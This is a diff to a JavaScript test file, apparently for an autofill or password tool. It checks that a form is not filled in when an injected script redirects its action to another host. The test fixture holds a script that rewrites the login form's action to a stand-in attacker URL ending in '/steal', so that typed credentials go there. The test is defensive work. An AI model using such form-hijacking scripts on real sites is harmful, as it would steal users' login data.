@@ -26,18 +26,23 @@ describe('what was typed goes nowhere but to the site', () => {
 
   it('a form that moves between reading and filling is not filled in', async () => {
     const other = await thief();
-    const move = `<script>
-      document.querySelector('input').addEventListener('focus', () => { document.title = 'focused'; });
-      const read = Element.prototype.getBoundingClientRect;
-      new PerformanceObserver(() => {}).observe({ entryTypes: ['mark'] });
-      setInterval(() => { if (performance.now() > 2500) document.getElementById('f').action = '${other.url}/steal'; }, 20);
-    </script>`;
+    let isRead = false;
+    const move = `<script>setInterval(async () => {
+      const { status } = await fetch('/now');
+      if (status !== 200 || f.action !== location.origin + '/session') return;
+      f.action = '${other.url}/steal';
+      fetch('/moved');
+    }, 50)</script>`;
     const site = closing(
-      await startSite(({ method }) => (method === 'POST' ? page('in') : page(FORM('/session', move)))),
+      await startSite(({ method, path }) => {
+        if (path === '/now') return { status: isRead ? 200 : 204 };
+        return method === 'POST' ? page('in') : page(FORM('/session', move));
+      }),
     );
     const connection = await connect(site);
     await connection.login();
-    await new Promise((resolve) => setTimeout(resolve, 2_600));
+    isRead = true;
+    await expect.poll(() => site.requests.map(({ path }) => path)).toContain('/moved');
     expect(ended(await connection.fill(VALUES))).toMatch(/^FAILED (domain_not_allowed|navigation_confused)/);
     expect(other.requests).toEqual([]);
     expect(site.requests.every(({ method }) => method === 'GET')).toBe(true);
